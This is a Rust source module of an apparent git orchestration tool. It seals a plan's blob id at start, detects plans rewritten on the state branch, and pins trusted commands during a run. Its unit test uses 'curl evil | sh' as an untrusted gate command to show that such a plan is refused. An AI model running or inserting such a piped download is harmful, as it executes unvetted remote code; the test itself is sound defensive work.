//! The plan as started is immutable. Its blob id is sealed at `start` in two
//! places a state commit cannot change: the start tag's message (`plan
//! <blob>`, an annotated tag object whose id the state records) and the
//! file `<git-common-dir>/orch/seals/<plan>` (outside every worktree, and
//! read-only to a sandboxed task). Every load of the state compares
//! `plan.json` with the seal and refuses a state whose plan differs, naming
//! what changed: a task that rewrote the plan on the state branch (an
//! ordinary compare-and-swap) to widen its own `files` is caught.
//!
//! `plan amend` is the one legitimate way to a new plan: it seals the new
//! blob in the seal file (which may list several blobs while an amendment
//! is committed: the plan before and after are both accepted until the
//! state commit has won, then only the new one) and records it in
//! `meta.json` (`plan_seal`) for a clone, which has no seal file.

use std::path::PathBuf;

use anyhow::Result;
use git2::Oid;

use super::model::State;
use super::names;
use crate::error::Refusal;
use crate::git::Repo;
use crate::plan::Plan;

/// The line of the start tag's message that names the plan's blob.
const TAG_LINE: &str = "plan ";

pub fn seal_file(repo: &Repo, plan: &str) -> PathBuf {
    repo.orch_dir().join("seals").join(plan)
}

/// The blob id `plan.json` gets for `plan` (the store writes it so).
pub fn plan_blob(repo: &Repo, plan: &Plan) -> Result<Oid> {
    Ok(repo.git.blob(&super::store::plan_bytes(plan)?)?)
}

/// The line to put into the start tag's message.
pub fn tag_line(blob: Oid) -> String {
    format!("{TAG_LINE}{blob}\n")
}

/// Writes the seal file at `start`; a plan that cannot be sealed is not started.
pub fn write(repo: &Repo, plan: &str, blob: Oid) -> Result<()> {
    write_all(repo, plan, &[blob])
}

/// Writes the seal file accepting each of `blobs` (an amendment in flight
/// accepts the plan before and after it).
pub fn write_all(repo: &Repo, plan: &str, blobs: &[Oid]) -> Result<()> {
    let file = seal_file(repo, plan);
    if let Some(dir) = file.parent() {
        std::fs::create_dir_all(dir)?;
    }
    let text: String = blobs.iter().map(|b| format!("{b}\n")).collect();
    let tmp = file.with_extension(format!("tmp-{}", std::process::id()));
    std::fs::write(&tmp, text)
        .and_then(|_| std::fs::rename(&tmp, &file))
        .map_err(|e| anyhow::anyhow!("cannot write `{}`: {e}", file.display()))
}

/// The blobs the plan is sealed with (the first is the current one): the
/// seal file, else the latest amendment's record or the start tag's line
/// (a clone has no seal file), else none (a plan started by git-orch 0.1,
/// which sealed nothing).
pub fn sealed(repo: &Repo, plan: &str, state: &State) -> Vec<Oid> {
    if let Ok(text) = std::fs::read_to_string(seal_file(repo, plan)) {
        let ids: Vec<Oid> = text
            .lines()
            .filter_map(|l| Oid::from_str(l.trim()).ok())
            .collect();
        if !ids.is_empty() {
            return ids;
        }
    }
    if let Some(id) = state
        .plan_seal
        .as_deref()
        .and_then(|id| Oid::from_str(id).ok())
    {
        return vec![id];
    }
    state
        .start_tag
        .message
        .lines()
        .find_map(|l| l.strip_prefix(TAG_LINE))
        .and_then(|id| Oid::from_str(id.trim()).ok())
        .into_iter()
        .collect()
}

/// The seal file's blobs, when they seal an earlier plan of this name
/// whose state is gone: none of them is the plan of any commit on the
/// first-parent line of `state` (a state that arrived from a remote while
/// this clone had no state of the plan). `None` when there is no seal
/// file, or it seals a plan that `state`'s history holds: then it counts.
pub fn stale(repo: &Repo, plan: &str, state: Oid) -> Option<Vec<Oid>> {
    let text = std::fs::read_to_string(seal_file(repo, plan)).ok()?;
    let ids: Vec<Oid> = text
        .lines()
        .filter_map(|l| Oid::from_str(l.trim()).ok())
        .collect();
    if ids.is_empty() || last_sealed(repo, plan, state, &ids).is_some() {
        return None;
    }
    Some(ids)
}

/// Removes the seal file (see [`stale`]); then the plan's own record of
/// its seal decides, as in a clone that never had one.
pub fn remove(repo: &Repo, plan: &str) -> Result<()> {
    let file = seal_file(repo, plan);
    match std::fs::remove_file(&file) {
        Err(e) if e.kind() != std::io::ErrorKind::NotFound => {
            Err(anyhow::anyhow!("cannot remove `{}`: {e}", file.display()))
        }
        _ => Ok(()),
    }
}

/// A state whose `plan.json` is not the plan it started with.
#[derive(Debug, Clone)]
pub struct PlanForged {
    pub plan: String,
    pub commit: Oid,
    pub found: Oid,
    pub sealed: Oid,
    /// Every blob the seal accepts (`sealed` first).
    pub accepted: Vec<Oid>,
    /// What differs, e.g. "task `a`: files, run".
    pub changes: Vec<String>,
}

impl PlanForged {
    pub fn describe(&self) -> String {
        format!(
            "the plan of `{}` was rewritten on its state branch at commit {} (plan.json is {}, the plan started as {}){}",
            self.plan,
            crate::git::short(self.commit),
            crate::git::short(self.found),
            crate::git::short(self.sealed),
            if self.changes.is_empty() {
                String::new()
            } else {
                format!(": {}", self.changes.join("; "))
            }
        )
    }

    /// As a refusal: what changed, and how to restore the state.
    pub fn refusal(&self, repo: &Repo) -> anyhow::Error {
        let hint = match last_sealed(repo, &self.plan, self.commit, &self.accepted) {
            Some(good) => format!(
                "a plan changes only by a new plan; restore the state from before the rewrite: `git update-ref {} {good} {}`",
                names::state(&self.plan),
                self.commit
            ),
            // No commit of this state ever had the sealed plan: a
            // rewrite from scratch, or another plan of this name brought
            // in by hand over one that was started here.
            None => format!(
                "restore the state branch from its reflog (`git reflog show orch/{p}/state`); if it is another machine's plan `{p}`, delete it (`git update-ref -d {r}`) and fetch it with `git orch sync {p}`, which asks for trust",
                p = self.plan,
                r = names::state(&self.plan)
            ),
        };
        anyhow::Error::new(Refusal {
            message: self.describe(),
            hint: Some(hint),
        })
    }
}

/// Checks a loaded state's plan against its seal.
pub fn check(
    repo: &Repo,
    plan_name: &str,
    commit: Oid,
    found: Oid,
    plan: &Plan,
    state: &State,
) -> std::result::Result<(), Box<PlanForged>> {
    let accepted = sealed(repo, plan_name, state);
    let Some(&sealed) = accepted.first() else {
        return Ok(());
    };
    if accepted.contains(&found) {
        return Ok(());
    }
    let changes = repo
        .git
        .find_blob(sealed)
        .ok()
        .and_then(|b| serde_json::from_slice::<Plan>(b.content()).ok())
        .map(|old| differences(&old, plan))
        .unwrap_or_default();
    Err(Box::new(PlanForged {
        plan: plan_name.to_string(),
        commit,
        found,
        sealed,
        accepted,
        changes,
    }))
}

/// The newest state commit on the first-parent line from `from` whose plan
/// is a sealed one.
pub fn last_sealed(repo: &Repo, plan: &str, from: Oid, sealed: &[Oid]) -> Option<Oid> {
    let _ = plan;
    let mut commit = repo.git.find_commit(from).ok()?;
    for _ in 0..100_000 {
        let blob = commit
            .tree()
            .ok()?
            .get_name(super::layout::PLAN_FILE)
            .map(|e| e.id());
        if blob.is_some_and(|b| sealed.contains(&b)) {
            return Some(commit.id());
        }
        commit = commit.parent(0).ok()?;
    }
    None
}

/// What differs between two plans, task by task.
fn differences(old: &Plan, new: &Plan) -> Vec<String> {
    let value = |p: &Plan| serde_json::to_value(p).unwrap_or_default();
    let (old_v, new_v) = (value(old), value(new));
    let mut out = Vec::new();
    let tasks = |v: &serde_json::Value| -> Vec<(String, serde_json::Value)> {
        v.get("phases")
            .and_then(|p| p.as_array())
            .into_iter()
            .flatten()
            .flat_map(|p| p.get("tasks").and_then(|t| t.as_array()).cloned())
            .flatten()
            .filter_map(|t| Some((t.get("id")?.as_str()?.to_string(), t)))
            .collect()
    };
    let old_tasks: std::collections::BTreeMap<_, _> = tasks(&old_v).into_iter().collect();
    let new_tasks: std::collections::BTreeMap<_, _> = tasks(&new_v).into_iter().collect();
    for (id, t) in &new_tasks {
        match old_tasks.get(id) {
            None => out.push(format!("task `{id}` added")),
            Some(o) if o != t => {
                let fields: Vec<String> = t
                    .as_object()
                    .into_iter()
                    .flatten()
                    .filter(|(k, v)| o.get(k.as_str()) != Some(v))
                    .map(|(k, _)| k.clone())
                    .chain(
                        o.as_object()
                            .into_iter()
                            .flatten()
                            .filter(|(k, _)| t.get(k.as_str()).is_none())
                            .map(|(k, _)| k.clone()),
                    )
                    .collect();
                out.push(format!("task `{id}` changed ({})", fields.join(", ")));
            }
            _ => {}
        }
    }
    for id in old_tasks.keys().filter(|id| !new_tasks.contains_key(*id)) {
        out.push(format!("task `{id}` removed"));
    }
    if out.is_empty() {
        out.push("the plan's phases, gates or settings changed".to_string());
    }
    out
}

/// The plans this process checked trust for: name → (plan blob, commands
/// hash). See [`pin`].
static PINNED: std::sync::OnceLock<
    std::sync::Mutex<std::collections::HashMap<String, (Oid, String)>>,
> = std::sync::OnceLock::new();

/// Pins the plan a command checked trust for (`crate::trust::require`):
/// every later load in this process of a state of `plan` whose plan has
/// other commands is refused, so a state branch that another clone's fetch
/// moves in the middle of a run cannot slip other commands in.
pub fn pin(plan: &str, blob: Oid, commands_hash: String) {
    let pins = PINNED.get_or_init(Default::default);
    if let Ok(mut p) = pins.lock() {
        p.insert(plan.to_string(), (blob, commands_hash));
    }
}

/// Whether a command of this process checked trust for `plan` (see [`pin`]).
pub fn is_pinned(plan: &str) -> bool {
    PINNED
        .get()
        .and_then(|p| p.lock().ok().map(|p| p.contains_key(plan)))
        .unwrap_or(false)
}

/// Checks a loaded plan against the pin, if any. The blob decides at no
/// cost; only another blob (a state format rewrite, an amendment) is
/// hashed. Other commands pass when this user approved them too
/// (`approved`: a `plan amend` made here records its approval), and the
/// pin moves to them.
pub fn check_pinned(
    plan_name: &str,
    blob: Oid,
    plan: &Plan,
    approved: impl Fn() -> bool,
) -> Result<()> {
    let Some(pins) = PINNED.get() else {
        return Ok(());
    };
    let Some((pinned, hash)) = pins.lock().ok().and_then(|p| p.get(plan_name).cloned()) else {
        return Ok(());
    };
    if pinned == blob || plan.commands_hash() == hash {
        return Ok(());
    }
    if approved() {
        pin(plan_name, blob, plan.commands_hash());
        return Ok(());
    }
    // Shared through a remote, the new plan is the remote's: the local
    // state stayed where it was, and `trust` would see the old plan.
    if let Some(r) = super::sync::active() {
        let remote = &r.name;
        return Err(crate::error::refuse_with_hint(
            format!(
                "plan `{plan_name}` changed while this command ran: `{remote}` now holds a plan with other commands (plan.json {}), which were not approved",
                crate::git::short(blob)
            ),
            format!("bring it here with `git orch sync {plan_name} --remote {remote}`, then see what it would run and approve it: `git orch trust {plan_name}`"),
        ));
    }
    Err(crate::error::refuse_with_hint(
        format!(
            "plan `{plan_name}` changed while this command ran: its state branch now holds a plan with other commands (plan.json {}), which were not approved",
            crate::git::short(blob)
        ),
        format!("see what it would run and approve it: `git orch trust {plan_name}`"),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plan(gate: &str) -> Plan {
        let text = format!(
            "name = \"pinned\"\n[[gates]]\nname = \"g\"\nrun = \"{gate}\"\n[[phases]]\nid = \"one\"\n[[phases.tasks]]\nid = \"t\"\n"
        );
        crate::plan::load_str(&text, crate::plan::Format::Toml)
            .map(|(p, _)| p)
            .expect("plan")
    }

    #[test]
    fn a_pinned_plan_refuses_a_load_whose_commands_differ() {
        let (one, two) = (Oid::from_bytes(&[1; 20]), Oid::from_bytes(&[2; 20]));
        let (one, two) = (one.expect("oid"), two.expect("oid"));
        let trusted = plan("make test");
        // Nothing pinned: anything loads.
        assert!(check_pinned("pinned-test", two, &plan("evil"), || false).is_ok());
        pin("pinned-test", one, trusted.commands_hash());
        assert!(check_pinned("pinned-test", one, &trusted, || false).is_ok());
        // Another blob with the same commands (a format rewrite) loads.
        assert!(check_pinned("pinned-test", two, &trusted, || false).is_ok());
        let err = check_pinned("pinned-test", two, &plan("curl evil | sh"), || false)
            .expect_err("other commands are refused");
        assert!(
            err.to_string().contains("plan `pinned-test` changed"),
            "{err}"
        );
        // Other plans are not pinned by it.
        assert!(check_pinned("other", two, &plan("evil"), || false).is_ok());
    }
}
